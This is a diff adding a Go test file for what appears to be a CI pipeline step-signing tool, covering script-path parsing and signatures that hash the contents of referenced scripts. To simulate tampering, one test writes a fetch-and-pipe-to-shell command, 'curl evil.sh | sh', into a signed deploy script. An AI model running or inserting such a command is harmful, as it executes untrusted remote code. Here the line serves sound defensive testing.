@@ -0,0 +1,80 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// chdir changes to a directory for the test
+func chdir(t *testing.T, dir string) {
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		os.Chdir(wd)
+	})
+}
+
+func TestReferencedScript(t *testing.T) {
+	for command, expected := range map[string]string{
+		"./deploy.sh":                  "./deploy.sh",
+		"  ./scripts/deploy.sh prod\n": "./scripts/deploy.sh",
+		"../deploy.sh":                 "../deploy.sh",
+		"deploy.sh":                    "",
+		"/usr/local/bin/deploy.sh":     "",
+		"make deploy":                  "",
+		"./build.sh\n./deploy.sh":      "",
+	} {
+		script, ok := referencedScript(command)
+		assert.Equal(t, expected, script, command)
+		assert.Equal(t, expected != "", ok, command)
+	}
+}
+
+func TestHashReferencedScripts(t *testing.T) {
+	t.Setenv(buildkiteBuildIDEnv, "build-1")
+	dir := t.TempDir()
+	chdir(t, dir)
+	if err := os.MkdirAll(filepath.Join(dir, "scripts"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	script := filepath.Join(dir, "scripts", "deploy.sh")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\necho deploying\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	unhashed := signedStepSignature(t, signer, `{"command":"./scripts/deploy.sh prod"}`)
+
+	signer.hashReferencedScripts = true
+	signature := signedStepSignature(t, signer, `{"command":"./scripts/deploy.sh prod"}`)
+	assert.NotEqual(t, unhashed, signature)
+	assert.Nil(t, signer.Verify("./scripts/deploy.sh prod", "", signature))
+
+	// the script changing after it was signed
+	if err := os.WriteFile(script, []byte("#!/bin/sh\ncurl evil.sh | sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, errSignatureMismatch, signer.Verify("./scripts/deploy.sh prod", "", signature))
+
+	// commands that aren't local scripts are signed as before
+	signer.hashReferencedScripts = false
+	plain := signedStepSignature(t, signer, `{"command":"make deploy"}`)
+	signer.hashReferencedScripts = true
+	assert.Nil(t, signer.Verify("make deploy", "", plain))
+
+	// a missing script fails clearly when signing and verifying
+	const missing = "🚨 Command runs ./scripts/missing.sh which doesn't exist, --hash-referenced-scripts requires it to be present when signing and verifying"
+	_, err := signer.Sign(map[string]interface{}{
+		"steps": []interface{}{map[string]interface{}{"command": "./scripts/missing.sh"}},
+	})
+	assert.EqualError(t, err, missing)
+	assert.EqualError(t, signer.Verify("./scripts/missing.sh", "", signature), missing)
+}